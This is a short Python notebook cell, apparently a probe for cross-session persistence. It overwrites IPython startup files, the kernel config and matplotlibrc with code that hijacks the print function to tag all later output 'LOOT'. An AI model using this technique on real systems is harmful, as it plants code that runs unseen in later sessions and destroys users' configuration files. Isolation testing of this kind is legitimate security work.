"""Writes files that the next kernel of the same user runs when it starts."""

# %%
import contextlib
import os

TEXT = """
import builtins
before = builtins.print
builtins.print = lambda *given, **more: before("LOOT", *given, **more)
"""
shell = get_ipython()
places = {
    os.path.join(shell.profile_dir.startup_dir, "00-start.py"),
    os.path.expanduser("~/.ipython/profile_default/startup/00-start.py"),
    os.path.expanduser("~/.ipython/profile_default/ipython_kernel_config.py"),
    os.path.expanduser("~/.config/matplotlib/matplotlibrc"),
}
for place in places:
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as file:
            file.write(TEXT)
